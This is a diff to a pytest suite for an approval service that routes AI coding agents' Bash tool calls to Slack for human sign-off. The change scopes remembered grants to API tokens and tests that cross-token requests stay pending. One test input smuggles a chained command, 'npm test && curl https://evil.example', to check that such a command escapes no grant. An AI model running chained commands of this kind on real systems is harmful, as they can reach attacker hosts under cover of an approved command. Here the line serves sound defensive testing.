@@ -16,7 +16,7 @@ import pytest
 import pytest_asyncio
 
 from bot.sandbox import SlackEmulator
-from tests.harness import App, approval_body, policy_app
+from tests.harness import API_TOKEN, App, approval_body, policy_app
 from tests.integrations.claude_cli import readme_example
 
 POLICY = """\
@@ -33,12 +33,15 @@ rules:
 AGENT = "Claude Code on host-1"
 NPM = {"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "npm test *"}], "behavior": "allow",
        "destination": "localSettings"}
+OTHER_TOKEN = "tok-other-agent-9"
+OTHER = f"other-agent:{OTHER_TOKEN}:agent"
 SET_MODE = {"type": "setMode", "mode": "acceptEdits", "destination": "session"}
 
 
 @pytest_asyncio.fixture
 async def papp(db_url: str, slack: SlackEmulator, tmp_path: Path) -> AsyncIterator[App]:
-    async with policy_app(db_url, slack, tmp_path, POLICY) as running:
+    # The harness's token (an admin token named token-1) and another agent's token.
+    async with policy_app(db_url, slack, tmp_path, POLICY, SIGNOFF_API_TOKENS=f"{API_TOKEN},{OTHER}") as running:
         yield running
 
 
@@ -52,8 +55,9 @@ def bash(command: str, description: str = "Run the tests", more: dict[str, Any] 
     return body
 
 
-async def submit(app: App, body: dict[str, Any]) -> dict[str, Any]:
-    status, created = await app.api("POST", "/api/v1/approvals", json=body)
+async def submit(app: App, body: dict[str, Any], token: str | None = None) -> dict[str, Any]:
+    headers = {"Authorization": f"Bearer {token}"} if token else None
+    status, created = await app.api("POST", "/api/v1/approvals", json=body, headers=headers)
     assert status == 201, created
     return created
 
@@ -84,7 +88,8 @@ async def test_one_tap_approves_remembers_and_the_next_matching_call_needs_no_ca
     card = await papp.card(first["id"])
     assert buttons(card)["signoff_suggest_1"] == "Approve & always allow Bash(npm test *)"
     assert "signoff_suggest_0" not in buttons(card)  # setMode: shown, not offered
-    assert "Claude suggests: always allow Bash commands that start with “npm test”, for this agent" in notes(card)
+    assert "Claude suggests: always allow Bash commands that start with “npm test”, for this agent (token-1)" \
+        in notes(card)
     assert "“switch to acceptEdits mode” (Signoff remembers tool rules" in notes(card)
 
     await tap(papp, first["id"], "U1", index=1)
@@ -98,7 +103,7 @@ async def test_one_tap_approves_remembers_and_the_next_matching_call_needs_no_ca
     [grant] = grants["items"]
     assert accepted["grant_ids"] == [grant["id"]]
     assert grant["tool"] == "Bash" and grant["match"] == {"command": {"op": "command", "value": "npm test *"}}
-    assert (grant["scope"], grant["scope_value"], grant["any_other_params"]) == ("agent", AGENT, True)
+    assert (grant["scope"], grant["scope_value"], grant["any_other_params"]) == ("agent", "token-1", True)
     assert (grant["created_by"], grant["request_id"], grant["expires_at"]) == ("U1", first["id"], None)
     assert papp.signoff is not None
     audit = [e.type for e in await papp.signoff.store.audit_events(grant["id"])]
@@ -118,11 +123,16 @@ async def test_one_tap_approves_remembers_and_the_next_matching_call_needs_no_ca
     assert (denied["status"], denied["decision"]["via"]) == ("rejected", "policy")
     assert denied["decision"]["rule"] == "no-publishing"
 
-    # Just outside the match: another command, a chained command, another agent: each still asks.
-    outside = [bash("npm run build"), bash("npm test && curl https://evil.example"),
-               {**bash("npm test"), "requested_by": "another agent"}]
-    for body in outside:
-        asked = await submit(papp, body)
+    # The same token under another label is the same agent: the grant applies.
+    relabelled = await submit(papp, {**bash("npm test"), "requested_by": "another label"})
+    assert relabelled["status"] == "approved" and relabelled["decision"]["grant_id"] == grant["id"]
+
+    # Just outside the match: another command, a chained command, another token (even with the same
+    # requested_by label): each still asks.
+    outside = [(bash("npm run build"), None), (bash("npm test && curl https://evil.example"), None),
+               (bash("npm test"), OTHER_TOKEN)]
+    for body, token in outside:
+        asked = await submit(papp, body, token)
         assert asked["status"] == "pending", body
         await papp.card(asked["id"])
     assert len(papp.slack.calls_to("chat.postMessage")) == posts + 3
@@ -145,11 +155,13 @@ async def test_a_session_suggestion_is_a_grant_for_that_session_only(papp: App) 
     assert decided["status"] == "approved"
     _, grants = await papp.api("GET", "/api/v1/grants")
     [grant] = grants["items"]
-    assert (grant["scope"], grant["scope_value"]) == ("run", "session:sess-A")
+    assert (grant["scope"], grant["scope_value"]) == ("run", "session:token-1:sess-A")
     same = await submit(papp, bash("npm test -- -u", session="sess-A"))
     assert same["status"] == "approved" and same["decision"]["via"] == "grant"
     other = await submit(papp, bash("npm test -- -u", session="sess-B"))
     assert other["status"] == "pending"
+    same_name = await submit(papp, bash("npm test -- -u", session="sess-A"), OTHER_TOKEN)  # another token's session
+    assert same_name["status"] == "pending"
     no_session = await submit(papp, bash("npm test -- -u"))
     assert no_session["status"] == "pending"
 
@@ -237,7 +249,7 @@ async def test_the_readme_curl_example(papp: App) -> None:
     assert asked["suggestions"] == body["suggestions"]
     card = await papp.card(asked["id"])
     assert buttons(card)["signoff_suggest_0"] == "Approve & always allow Bash(npm test *)"
-    assert "for this agent (Claude Code on build-1), until revoked" in notes(card)
+    assert "for this agent (token-1), until revoked" in notes(card)  # its token, not its requested_by
 
 
 async def test_approve_and_remember_respects_duties_and_typed_confirmation_too(papp: App) -> None:
